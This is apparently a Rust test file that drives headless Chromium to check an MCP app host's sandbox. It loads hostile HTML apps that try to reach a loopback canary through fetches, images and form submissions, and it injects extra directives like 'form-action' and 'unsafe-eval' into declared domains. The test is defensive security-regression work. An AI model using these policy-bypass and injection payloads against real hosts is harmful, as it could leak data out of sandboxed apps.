//! The Bistro's booking app in a real browser: the example server and a test host page
//! (`examples/apps/host/`) are served on loopback, the host page on `127.0.0.1` and its sandbox
//! proxy on `localhost` (two origins); headless Chromium (Debian's, `/usr/bin/chromium`, or
//! `$CHROMIUM`) driven by `playwright-core` loads the app under its CSP, lets it initialise,
//! books a table through the host against our server, and saves a screenshot as
//! `target/tmp/bistro-app.png`. A second test loads hostile apps the same way and checks that
//! none of them reaches a loopback canary (security review X9). `cargo xtask setup test`
//! installs Chromium and npm; `cargo xtask test` hands the test a Node 20 or newer in
//! `MCP_NODE`.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::response::Html;
use axum::routing::get;
use mcp::{AppDef, McpServer, ToolDef};
use mcp_examples::bistro_app;
use serde_json::{Map, Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::process::Command;

const HOST: &str = include_str!("../apps/host/host.html");
const SANDBOX: &str = include_str!("../apps/host/sandbox.html");

fn host_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("apps/host")
}

fn chromium() -> PathBuf {
    let path = std::env::var_os("CHROMIUM")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/usr/bin/chromium"));
    assert!(
        path.exists(),
        "{} is missing: `apt-get install -y chromium` (`cargo xtask setup test` does), or set CHROMIUM",
        path.display()
    );
    path
}

/// The Node that runs playwright-core (20 or newer): `$MCP_NODE` (`cargo xtask test` sets it,
/// installing one when the machine's is older), else `node`.
fn node() -> PathBuf {
    std::env::var_os("MCP_NODE").map_or_else(|| PathBuf::from("node"), PathBuf::from)
}

/// `npm ci` in `examples/apps/host` unless `node_modules` was made from this very lockfile.
async fn ensure_playwright() {
    // The tests run at once; one `npm ci` at a time.
    static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
    let _one = ONE_AT_A_TIME.lock().await;
    let dir = host_dir();
    let lock = std::fs::read(dir.join("package-lock.json")).expect("the lockfile is committed");
    let marker = dir.join("node_modules/.mcp-rs-browser-lock.json");
    if std::fs::read(&marker).is_ok_and(|m| m == lock) {
        return;
    }
    let status = tokio::time::timeout(
        Duration::from_secs(300),
        Command::new("npm")
            .current_dir(&dir)
            .args(["ci", "--ignore-scripts", "--no-audit", "--no-fund"])
            .kill_on_drop(true)
            .status(),
    )
    .await
    .expect("npm ci finishes within 300 s")
    .expect("npm runs (`apt-get install -y npm`; `cargo xtask setup test` does)");
    assert!(status.success(), "npm ci failed in {}", dir.display());
    std::fs::write(&marker, lock).expect("the marker is written");
}

/// `server` at `/mcp`, the host page and the sandbox, on one loopback port.
async fn serve(server: McpServer) -> u16 {
    let endpoint = mcp::http::endpoint(server).expect("the server builds");
    let router = Router::new()
        .route_service("/mcp", endpoint)
        .route("/host.html", get(|| async { Html(HOST) }))
        .route("/sandbox.html", get(|| async { Html(SANDBOX) }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("a loopback port");
    let port = listener.local_addr().expect("the bound address").port();
    tokio::spawn(async move { axum::serve(listener, router).await });
    port
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_booking_app_books_a_table_through_a_host_in_chromium() {
    let chromium = chromium();
    ensure_playwright().await;
    let port = serve(bistro_app::server()).await;
    let screenshot = Path::new(env!("CARGO_TARGET_TMPDIR")).join("bistro-app.png");
    let _ = std::fs::remove_file(&screenshot);

    let output = tokio::time::timeout(
        Duration::from_secs(120),
        Command::new(node())
            .current_dir(host_dir())
            .arg("drive.mjs")
            .arg(format!("http://127.0.0.1:{port}/host.html"))
            .arg(&screenshot)
            .env("CHROMIUM", &chromium)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("the browser run finishes within 120 s")
    .expect("node runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success(),
        "drive.mjs failed ({}):\n{stderr}\n{stdout}",
        output.status
    );
    let run: Value = serde_json::from_str(stdout.lines().last().unwrap_or_default())
        .unwrap_or_else(|e| panic!("drive.mjs printed no JSON line ({e}):\n{stdout}\n{stderr}"));

    // The app shows the booking the server made, through the host.
    assert_eq!(
        run["result"], "Booked a table for 4 on 2026-12-24.",
        "{run:#}"
    );
    assert_eq!(run["status"], "Booked through the host.");
    // The app declares the one display mode it lays itself out for, and tells the host its
    // size: once ready, and again when the booking's result made it taller.
    assert_eq!(
        run["appCapabilities"],
        json!({"availableDisplayModes": ["inline"]}),
        "{run:#}"
    );
    let sizes = run["sizes"].as_array().expect("the host records sizes");
    assert!(sizes.len() >= 2, "{run:#}");
    for size in sizes {
        assert!(size["width"].as_u64().is_some_and(|w| w > 0), "{run:#}");
        assert!(size["height"].as_u64().is_some_and(|h| h > 0), "{run:#}");
    }
    let first = sizes[0]["height"].as_u64().unwrap_or_default();
    let last = sizes[sizes.len() - 1]["height"]
        .as_u64()
        .unwrap_or_default();
    assert!(
        last > first,
        "the result shown made the app taller: {run:#}"
    );
    assert_eq!(run["errors"], json!([]), "{run:#}");
    let calls = run["calls"].as_array().expect("the host records calls");
    assert_eq!(calls.len(), 1, "{run:#}");
    assert_eq!(calls[0]["name"], "book_table");
    assert_eq!(
        calls[0]["arguments"],
        json!({"date": "2026-12-24", "party_size": 4})
    );
    assert_eq!(
        calls[0]["result"]["content"],
        json!([{"type": "text", "text": "Booked a table for 4 on 2026-12-24."}])
    );

    // It ran under the CSP its (empty) metadata asks for: no network, not even the host.
    let policy = run["csp"]["policy"].as_str().unwrap_or_default();
    assert!(policy.starts_with("default-src 'none'"), "{policy}");
    assert!(policy.contains("connect-src 'none'"), "{policy}");
    assert_eq!(run["csp"]["fetched"], "refused", "{run:#}");
    assert_eq!(run["csp"]["violations"], json!(["connect-src"]), "{run:#}");

    let png = std::fs::read(&screenshot).expect("the screenshot is saved");
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "not a PNG");
    assert!(
        png.len() > 10_000,
        "a {} byte screenshot shows nothing",
        png.len()
    );
    eprintln!("screenshot: {}", screenshot.display());
}

/// A loopback listener that keeps, for every connection, the first line of the request it
/// carried, or `""` when the connection carried nothing; it answers `204 No Content`.
struct Canary {
    port: u16,
    connections: Arc<AtomicUsize>,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Canary {
    async fn start() -> Canary {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("a loopback port");
        let port = listener.local_addr().expect("the bound address").port();
        let connections = Arc::new(AtomicUsize::new(0));
        let heard = Arc::new(Mutex::new(Vec::new()));
        let (counted, kept) = (connections.clone(), heard.clone());
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                let kept = kept.clone();
                tokio::spawn(async move {
                    let mut buffer = vec![0; 4096];
                    let read =
                        tokio::time::timeout(Duration::from_secs(3), stream.read(&mut buffer))
                            .await
                            .ok()
                            .and_then(Result::ok)
                            .unwrap_or(0);
                    let text = String::from_utf8_lossy(&buffer[..read]);
                    let line = text.lines().next().unwrap_or_default().to_owned();
                    kept.lock().expect("the canary's list").push(line);
                    let _ = stream
                        .write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
                        .await;
                });
            }
        });
        Canary {
            port,
            connections,
            heard,
        }
    }

    /// What every connection carried, once each has been read (or given up on).
    async fn heard(&self) -> Vec<String> {
        for _ in 0..40 {
            let heard = self.heard.lock().expect("the canary's list").clone();
            if heard.len() == self.connections.load(Ordering::SeqCst) {
                return heard;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("a connection to the canary was never read");
    }
}

/// The hostile apps' URI; every one is linked to the tool `probe`.
const PROBE_APP: &str = "ui://probe/app";

/// A server whose one tool is linked to `app`.
fn probe_server(app: AppDef) -> McpServer {
    let probe = ToolDef::new("probe")
        .ui(PROBE_APP)
        .handler(|_ctx, _args: Map<String, Value>| async { "probed".to_owned() });
    McpServer::new("Probe").app(app).tool(probe)
}

/// The app tells the host it runs (`ui/notifications/initialized`, relayed by the sandbox).
const RAN: &str = "parent.postMessage({jsonrpc: '2.0', method: 'ui/notifications/initialized', params: {}}, '*');";

/// A script that fetches the canary, then says it ran, and an image from the canary.
fn reach(case: &str, canary: u16) -> String {
    format!(
        "<script>fetch('http://127.0.0.1:{canary}/{case}/fetch').catch(function () {{}});{RAN}</script>\
         <img src=\"http://127.0.0.1:{canary}/{case}/img\" alt=\"\">"
    )
}

/// A form that sends `secret=42` to the canary, and a script that, once `first` (an expression
/// yielding a promise) has settled, says the app ran and submits the form.
fn submit(case: &str, canary: u16, first: &str) -> String {
    format!(
        "<form id=\"leak\" method=\"get\" action=\"http://127.0.0.1:{canary}/{case}/submit\">\
         <input name=\"secret\" value=\"42\"></form>\
         <script>function go() {{ {RAN} document.getElementById('leak').submit(); }}\
         {first}.then(go, go);</script>"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_markup_in_an_app_escapes_the_sandbox_policy_in_chromium() {
    let chromium = chromium();
    ensure_playwright().await;
    let app = |html: String| AppDef::new(PROBE_APP, "probe").title("Probe").html(html);
    // One canary per case, and the origin the last one declares.
    let mut canaries = Vec::new();
    for _ in 0..6 {
        canaries.push(Canary::start().await);
    }
    let declared = Canary::start().await;
    let port = |case: usize| canaries[case].port;
    // (name, whether it submits a form, the app)
    let cases = [
        // Well-formed: the old sandbox found this head and held.
        (
            "control",
            false,
            app(format!(
                "<!doctype html><html><head><title>control</title></head><body>{}</body></html>",
                reach("control", port(0))
            )),
        ),
        // The old sandbox put its policy inside the comment.
        (
            "comment",
            false,
            app(format!(
                "<!--<head>-->{}<p>after</p>",
                reach("comment", port(1))
            )),
        ),
        // The old sandbox put its policy after the script had run, and in the body.
        (
            "early-script",
            false,
            app(format!(
                "{}<html><head><title>early</title></head><body></body></html>",
                reach("early-script", port(2))
            )),
        ),
        // The old sandbox took `<header>` for the head.
        (
            "header",
            false,
            app(format!(
                "<body>{}<header>header</header></body>",
                reach("header", port(3))
            )),
        ),
        // The old policy had no form-action.
        (
            "form",
            true,
            app(format!(
                "<!doctype html><html><head><title>form</title></head><body>{}</body></html>",
                submit("form", port(4), "Promise.resolve()")
            )),
        ),
        // Declared origins: one it may fetch, and entries that would widen the policy: a bare
        // `*`, a second directive that, coming before the sandbox's own, would win, a keyword.
        (
            "declared",
            true,
            app(format!(
                "<!doctype html><html><head><title>declared</title></head><body>\
                 <img src=\"http://127.0.0.1:{c}/declared/img\" alt=\"\">{}</body></html>",
                submit(
                    "declared",
                    port(5),
                    &format!(
                        "Promise.all([fetch('http://127.0.0.1:{}/declared/fetch'), \
                         fetch('http://127.0.0.1:{}/declared/fetch').catch(function () {{}})])",
                        declared.port,
                        port(5)
                    )
                ),
                c = port(5),
            ))
            .connect_domain(format!("http://127.0.0.1:{}", declared.port))
            .connect_domain("*")
            .connect_domain(format!(
                "https://cdn.invalid; form-action http://127.0.0.1:{}",
                port(5)
            ))
            .resource_domain(format!("'unsafe-eval' http://127.0.0.1:{}", port(5))),
        ),
    ];
    let mut urls = Vec::new();
    let mut kinds = Vec::new();
    for (name, form, app) in cases {
        let port = serve(probe_server(app)).await;
        urls.push(json!({"name": name, "url": format!("http://127.0.0.1:{port}/host.html")}));
        kinds.push((name, form));
    }

    let output = tokio::time::timeout(
        Duration::from_secs(180),
        Command::new(node())
            .current_dir(host_dir())
            .args(["--input-type=module", "--eval", PROBE_DRIVER])
            .env("CHROMIUM", &chromium)
            .env("PROBE_CASES", Value::Array(urls).to_string())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("the browser run finishes within 180 s")
    .expect("node runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success(),
        "the probe driver failed ({}):\n{stderr}\n{stdout}",
        output.status
    );
    let runs: Value = serde_json::from_str(stdout.lines().last().unwrap_or_default())
        .unwrap_or_else(|e| {
            panic!("the probe driver printed no JSON line ({e}):\n{stdout}\n{stderr}")
        });
    let runs = runs.as_array().expect("one run per case");
    assert_eq!(runs.len(), 6, "{runs:#?}");

    // Every app ran its script, so each had its chance.
    for run in runs {
        assert_eq!(run["ran"], true, "{run:#}");
        assert_eq!(run["errors"], json!([]), "{run:#}");
    }
    // Yet no canary got a request: no fetch, no image, no form. Without a form, not even a
    // connection. Chromium does open one (resolving the name first) to the origin of a form it
    // refuses to submit, and sends nothing on it.
    let mut heard = Vec::new();
    for ((name, form), canary) in kinds.iter().zip(&canaries) {
        let lines = canary.heard().await;
        let leaked = lines.iter().any(|line| !line.is_empty()) || (!form && !lines.is_empty());
        heard.push(json!({"case": name, "heard": lines, "leaked": leaked}));
    }
    eprintln!("the canaries heard: {}", Value::Array(heard.clone()));
    assert!(
        heard.iter().all(|h| h["leaked"] == false),
        "the canaries heard: {heard:#?}\nthe runs: {runs:#?}"
    );
    // The origin the app declared stays reachable; the malformed entries were dropped.
    assert_eq!(
        declared.heard().await,
        ["GET /declared/fetch HTTP/1.1"],
        "{runs:#?}"
    );
}

/// Loads each case's host page (`$PROBE_CASES`: `[{name, url}]`) in headless Chromium, waits
/// for its app to say it ran, gives it 2 s more, and prints one JSON line: per case whether it
/// ran, the host's errors and the console (the policy's refusals show there).
const PROBE_DRIVER: &str = r#"
import { chromium } from "playwright-core";
const deadline = setTimeout(() => { console.error("no result within 150 s"); process.exit(3); }, 150_000);
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  headless: true,
  args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"],
});
const runs = [];
try {
  for (const { name, url } of JSON.parse(process.env.PROBE_CASES)) {
    const page = await browser.newPage();
    const lines = [];
    page.on("console", (m) => lines.push(`${m.type()}: ${m.text()}`));
    page.on("pageerror", (e) => lines.push(`pageerror: ${e.message}`));
    await page.goto(url);
    const ran = await page.waitForFunction(
      () => window.hostState && (window.hostState.initialized || window.hostState.errors.length > 0),
      null,
      { timeout: 20_000 },
    ).then(() => true, () => false);
    await page.waitForTimeout(2_000);
    const state = await page.evaluate(() => window.hostState);
    runs.push({ name, ran: ran && state.initialized, errors: state.errors, console: lines });
    await page.close();
  }
} finally {
  await browser.close();
  clearTimeout(deadline);
}
console.log(JSON.stringify(runs));
"#;
